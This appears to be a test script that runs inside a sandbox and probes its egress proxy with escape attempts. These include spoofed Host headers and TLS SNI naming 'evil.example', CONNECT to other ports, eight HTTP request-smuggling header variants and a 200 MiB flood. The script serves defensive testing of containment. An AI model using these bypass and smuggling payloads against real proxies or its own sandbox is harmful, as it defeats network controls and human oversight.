"""Runs inside of the sandbox, with a proxy as the only way out. egress_attacks.py WHAT PORT...: makes
one kind of attempt and says BEGUN, then what came back. The driver sees what arrived outside."""
import os
import socket
import ssl
import sys
import urllib.parse

PROXY = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])


def ask(*pieces, wait=True):
    """Sends to the proxy; gives all that it answers."""
    with socket.create_connection((PROXY.hostname, PROXY.port), timeout=5) as peer:
        answer = b""
        try:
            for piece in pieces:
                peer.sendall(piece)
                if wait and piece.startswith(b"CONNECT"):
                    answer += peer.recv(4096)
            while piece := peer.recv(65536):
                answer += piece
        except OSError:
            pass
    return answer


def hello(name):
    """A TLS greeting; None: that names no host."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def control(port):
    return [ask(f"GET http://127.0.0.1:{port}/control HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())]


def other_host(port, tls):
    tunnel = b"CONNECT 127.0.0.1:443 HTTP/1.1\r\nHost: 127.0.0.1:443\r\n\r\n"
    yield ask(f"GET http://127.0.0.1:{port}/host HTTP/1.1\r\nHost: evil.example\r\n\r\n".encode())
    yield ask(f"GET http://127.0.0.1:{port}/host HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
              "Host: evil.example\r\n\r\n".encode())
    if tls == "tls":
        yield ask(tunnel, hello(None))  # the control: a number names no host
        yield ask(tunnel, hello("evil.example"))
        yield ask(tunnel, b"GET /host HTTP/1.1\r\nHost: evil.example\r\n\r\n")


def other_port(_, other):
    for port in ("22", "25", other):
        yield ask(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode(),
                  b"GET /port HTTP/1.1\r\n\r\n")
        yield ask(f"GET http://127.0.0.1:{port}/port HTTP/1.1\r\nHost: x\r\n\r\n".encode())


def smuggle(port):
    place = f"http://127.0.0.1:{port}/outer HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
    inner = "GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    for head in ("Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                 "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                 "Content-Length: 0\r\nContent-Length: 60\r\n\r\n", "Content-Length: 0\r\n\r\n",
                 "Content-Length : 60\r\n\r\n", "X: y\nContent-Length: 60\r\n\r\n",
                 "Transfer-Encoding:\x0bchunked\r\n\r\n", "Content-Length: +60\r\n\r\n"):
        yield ask(("POST " + place + head + inner).encode())
    yield ask(f"GET http://127.0.0.1:{port}/a\r\nHost: x\r\n\r\n{inner} HTTP/1.1\r\n\r\n".encode())


def flood(port):
    with socket.create_connection((PROXY.hostname, PROXY.port), timeout=20) as peer:
        peer.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
        peer.recv(4096)
        sent = 0
        try:
            while sent < 200 << 20:
                sent += peer.send(bytes(1 << 20))
        except OSError:
            pass
    return [f"{sent >> 20} MiB taken".encode()]


print("BEGUN", flush=True)
for said in {"control": control, "other_host": other_host, "other_port": other_port,
             "smuggle": smuggle, "flood": flood}[sys.argv[1]](*sys.argv[2:]):
    print(said[:80])
